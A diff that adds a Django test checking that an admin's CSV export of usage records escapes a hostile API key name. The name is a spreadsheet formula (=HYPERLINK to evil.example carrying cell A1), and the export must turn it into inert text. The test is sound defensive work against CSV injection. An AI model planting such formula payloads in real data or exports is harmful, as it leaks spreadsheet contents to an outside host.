@@ -282,6 +282,18 @@ def test_usage_shows_and_filters_by_project_for_users_and_staff() -> None:
     assert sorted(r["project"] for r in table) == ["", "alpha", "alpha", "beta"]
 
 
+def test_the_admins_usage_csv_opens_a_hostile_key_name_as_text_not_a_formula() -> None:
+    ann, alpha, _ = two_projects()
+    key, _ = keys.api_key_create(user=ann, name='=HYPERLINK("http://evil.example/?"&A1,"x")', project_id=alpha.pk)
+    UsageRecord.objects.create(user=ann, api_key=key, project=alpha, model="m", endpoint="chat", status=200)
+    admin = signed_in(User.objects.create_superuser("ops", password="pw-ops-123456"))
+    ids = list(UsageRecord.objects.values_list("pk", flat=True))
+    response = admin.post("/admin/gateway/usagerecord/", {"action": "export_csv", "_selected_action": ids})
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["api_key"].startswith("'=HYPERLINK("), row  # a spreadsheet shows it as text
+    assert row["prompt_tokens"] == "0" and row["streamed"] == "False"
+
+
 def test_the_project_admin_lists_accounts_shares_and_members() -> None:
     ann, alpha, beta = two_projects()
     member("bob", "a")
